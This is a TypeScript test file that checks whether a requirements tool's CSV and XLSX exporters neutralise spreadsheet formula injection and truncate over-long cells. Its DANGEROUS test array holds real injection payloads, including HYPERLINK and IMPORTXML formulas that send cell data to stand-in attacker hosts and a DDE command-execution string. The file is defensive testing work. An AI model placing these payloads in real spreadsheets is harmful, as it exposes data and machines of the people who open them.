// @spdf verifies SPDF-EXP-CSV, SPDF-EXP-XLSX
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { toCsv, csvField } from '../../src/core/export/csv';
import { toXlsx, XLSX_CELL_MAX } from '../../src/core/export/xlsx';
import { neutralizeFormula } from '../../src/core/export/text';
import type { Matrix, MatrixView } from '../../src/core/matrix/model';
import { coverageOf } from '../../src/core/matrix/decide';

/** Cells that spreadsheet programs would evaluate (OWASP CSV injection), and harmless look-alikes. */
export const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
  '+SUM(A1:A2)',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x.invalid/?", A1), "//a")',
  '-@cmd',
  '+"quoted, with comma"',
  '=A1\nsecond line',
  // After leading white space or quotes (trimmed by Google Sheets, LibreOffice "trim spaces", naive readers).
  ' =leading space',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\n=1+1',
  '"=1+1',
  '" =1+1"',
  "'=1+1",
  '\'"@SUM(1,2)',
  // Full-width forms some locales take as formula starts.
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,2)',
  ' ＝1+1',
  '\t',
  '\rplain',
];
const HARMLESS = [
  'SEC-REQ-001',
  'plain text',
  'a=b',
  "'already quoted",
  'x_x0041_y',
  'a\rb',
  ' leading space',
  '"quoted"',
  '1-2',
  'e-mail',
  'a@b',
  '＝'.slice(1) + 'x＝y',
  '',
  ' ',
  '"',
  // Characters XML cannot hold: an XLSX cell keeps them as _xHHHH_ (the writer dropped them silently).
  'ctl\u0001\u0007\u001b[31m\u0000end',
  'lone \ud800 and \udfff here',
  'nonchars \ufffe\uffff',
  'pair \ud83d\ude00 stays',
  'x_x0001_y',
];

function view(values: string[]): MatrixView {
  return {
    name: 'requirements',
    title: 'Requirements',
    columns: [
      { key: 'id', title: '=HEADER' },
      { key: 'title', title: 'Title' },
    ],
    rows: values.map((v, i) => ({ id: `R${i}`, kind: 'requirement', status: 'OK', file: v, line: i + 1, zones: [], cells: { id: [{ text: v }], title: [{ text: v }, { text: '@second value' }] } })),
    coverage: coverageOf([]),
  };
}

/** Minimal RFC 4180 reader for the test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') q = false;
      else field += c;
    } else if (c === '"') q = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('formula injection', () => {
  it('neutralises exactly the cells that start with = + - @ (ASCII or full-width, also after white space or quotes), tab or CR', () => {
    for (const d of DANGEROUS) assert.equal(neutralizeFormula(d), `'${d}`);
    for (const h of HARMLESS) assert.equal(neutralizeFormula(h), h);
  });

  it("CSV: every dangerous cell reads back as ' + the original text (RFC 4180)", () => {
    const csv = toCsv(view([...DANGEROUS, ...HARMLESS]));
    assert.match(csv, /\r\n$/);
    const rows = parseCsv(csv);
    assert.equal(rows[0][0], "'=HEADER");
    DANGEROUS.forEach((d, i) => {
      assert.equal(rows[i + 1][0], `'${d}`);
      assert.equal(rows[i + 1][2], `'${d}`, 'file column');
    });
    HARMLESS.forEach((h, i) => assert.equal(rows[DANGEROUS.length + i + 1][0], h));
    assert.equal(csvField('a"b'), '"a""b"');
    assert.equal(csvField('a,b'), '"a,b"');
  });

  it("XLSX: every dangerous cell is a string equal to ' + the original text; no formula anywhere", async () => {
    const v = view([...DANGEROUS, ...HARMLESS]);
    const m: Matrix = { version: 1, coverage: coverageOf([]), views: { requirements: v }, problems: [], severityNames: [] };
    const bytes = await toXlsx(m);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as never);
    const ws = wb.worksheets[0];
    assert.equal(ws.getCell(1, 1).value, "'=HEADER");
    DANGEROUS.forEach((d, i) => {
      for (const col of [1, 3]) {
        const cell = ws.getCell(i + 2, col);
        assert.equal(cell.type, ExcelJS.ValueType.String, `row ${i + 2} col ${col} type ${cell.type}`);
        assert.equal(cell.value, `'${d}`);
      }
    });
    HARMLESS.forEach((h, i) => assert.equal(ws.getCell(DANGEROUS.length + i + 2, 1).value, h, 'harmless text reads back unchanged'));
    ws.eachRow((row) => row.eachCell((cell) => assert.notEqual(cell.type, ExcelJS.ValueType.Formula)));
  });

  // [text, what the cell must start with]: Excel holds at most 32,767 characters in a cell.
  const LONG: [string, string][] = [
    ['A'.repeat(XLSX_CELL_MAX), 'AAAA'],
    ['<b>' + 'A'.repeat(1 << 20), '<b>AAA'],
    ['=' + 'B'.repeat(40000), "'=BBB"],
    ['\u0001' + 'C'.repeat(40000), '\u0001CCC'],
    ['x'.repeat(32000) + '\ud83d\ude00'.repeat(1000), 'xxxx'],
    ['x'.repeat(32001) + '\ud83d\ude00'.repeat(1000), 'xxxx'],
  ];
  for (const [text, start] of LONG)
    it(`XLSX: a ${text.length}-character cell starting ${JSON.stringify(start)} holds at most ${XLSX_CELL_MAX} and says what it leaves out`, async () => {
      const m: Matrix = { version: 1, coverage: coverageOf([]), views: { requirements: view([text]) }, problems: [], severityNames: [] };
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(await toXlsx(m)) as never);
      const value = wb.worksheets[0].getCell(2, 1).value;
      assert.equal(typeof value, 'string');
      if (typeof value !== 'string') return;
      assert.ok(value.startsWith(start), value.slice(0, 20));
      assert.ok(value.length <= XLSX_CELL_MAX, `${value.length} characters`);
      assert.ok(!/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(value.replace(/^\u0001/, '')), 'no surrogate pair cut in two');
      const cut = neutralizeFormula(text).length > XLSX_CELL_MAX;
      if (cut) {
        const n = / … \[(\d+) more characters not shown: an Excel cell holds at most 32767\]$/.exec(value);
        assert.ok(n, value.slice(-120));
        assert.equal(value.length - n[0].length + Number(n[1]), neutralizeFormula(text).length, 'kept + left out = all');
      } else assert.equal(value, neutralizeFormula(text));
    });
});
